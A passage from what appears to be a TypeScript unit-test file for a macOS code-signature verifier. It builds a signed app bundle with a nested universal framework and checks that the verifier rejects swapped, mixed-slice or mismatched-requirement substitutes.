          requirement: p.fwRequirement ?? `identifier "com.example.lib" and anchor apple generic and certificate leaf[subject.OU] = "${T}"`,
        },
      });
      const main = await signMachO(arm, chain, { identifier: 'com.example.app', teamId: T, special: { 1: appInfo, 3: appSeal } });
      const fw = 'Main.app/Contents/Frameworks/Lib.framework/';
      const out = tmp('fat-nested.zip');
      await writeZip(out, [
        file('Main.app/Contents/Info.plist', appInfo),
        file('Main.app/Contents/MacOS/Main', main, 0o100755),
        file('Main.app/Contents/MacOS/tool', tool, 0o100755),
        file('Main.app/Contents/_CodeSignature/CodeResources', appSeal),
        file(`${fw}Versions/A/Lib`, fwExe, 0o100755),
        file(`${fw}Versions/A/Resources/Info.plist`, fwInfo),
        file(`${fw}Versions/A/Resources/data.txt`, fwData),
        file(`${fw}Versions/A/_CodeSignature/CodeResources`, fwSeal),
        link(`${fw}Versions/Current`, 'A'),
        link(`${fw}Lib`, 'Versions/Current/Lib'),
        link(`${fw}Resources`, 'Versions/Current/Resources'),
      ]);
      return out;
    }
    const check = (path: string) => verify(path, { teamId: T }, { testAnchors: [chain.rootCert] });

    it('the genuine app verifies, every slice of the nested universal code judged', async () => {
      const r = await check(await app());
      expect(r.reason).toContain(`pinned by Team ID ${T}`);
      expect(r.valid).toBe(true);
      const names = (r.details!.units as Array<{ name: string }>).map((u) => u.name);
      expect(names).toEqual(expect.arrayContaining(['Main.app/MacOS/tool (x86_64)', 'Main.app/Contents/Frameworks/Lib.framework (x86_64)']));
    });
    it('another framework signed by the same identity, or an older build of this one, swapped in: refused', async () => {
      const other = await check(await app({ fwExe: lipo([await fwSlice(arm, 'com.example.other'), await fwSlice(x86, 'com.example.other')]) }));
      expect(other.valid).toBe(false);
      expect(other.reason).toContain('nested Frameworks/Lib.framework is universal and none of its slices has the cdhash sealed by CodeResources');
      const older = await check(await app({ fwExe: lipo([await fwSlice(armOld), await fwSlice(x86)]) }));
      expect(older.valid).toBe(false);
      expect(older.reason).toContain('nested Frameworks/Lib.framework is universal and none of its slices has the cdhash sealed by CodeResources');
    });
    it('the sealed slice kept, the other slice taken from other code of the same team: refused by its identifier', async () => {
      const r = await check(await app({ fwExe: lipo([await fwSlice(arm), await fwSlice(x86, 'com.example.other')]) }));
      expect(r.valid).toBe(false);
      expect(r.reason).toContain(
        'nested Frameworks/Lib.framework: Main.app/Contents/Frameworks/Lib.framework (x86_64) carries identifier "com.example.other", team TESTTEAM01, the slice with the sealed cdhash',
      );
    });
    it('a universal nested Mach-O file swapped for other code of the same team: refused', async () => {
      const swapped = await check(await app({ tool: lipo([await toolSlice(arm, 'com.example.other'), await toolSlice(x86, 'com.example.other')]) }));
      expect(swapped.valid).toBe(false);
      expect(swapped.reason).toContain('nested Main.app/MacOS/tool is universal and none of its slices has the cdhash sealed by CodeResources');
      const mixed = await check(await app({ tool: lipo([await toolSlice(arm), await toolSlice(x86, 'com.example.other')]) }));
      expect(mixed.reason).toContain('Main.app/MacOS/tool (x86_64) carries identifier "com.example.other"');
    });
    it("the identifier and team a sealed requirement names must be the nested code's", async () => {
      const id = await check(await app({ fwRequirement: 'identifier "com.example.lib2" and anchor apple generic' }));
      expect(id.valid).toBe(false);
      expect(id.reason).toContain(
        'nested Frameworks/Lib.framework: identifier "com.example.lib" is not the one its sealed requirement names ("com.example.lib2")',
      );
      const team = await check(await app({ fwRequirement: 'identifier "com.example.lib" and certificate leaf[subject.OU] = OTHERTEAM1' }));
      expect(team.reason).toContain('team TESTTEAM01 is not the one its sealed requirement names (OTHERTEAM1)');
      // a requirement with alternatives is not read here; the sealed cdhash alone binds the code
      expect((await check(await app({ fwRequirement: 'identifier "a" or identifier "b"' }))).valid).toBe(true);
    });
  },
);
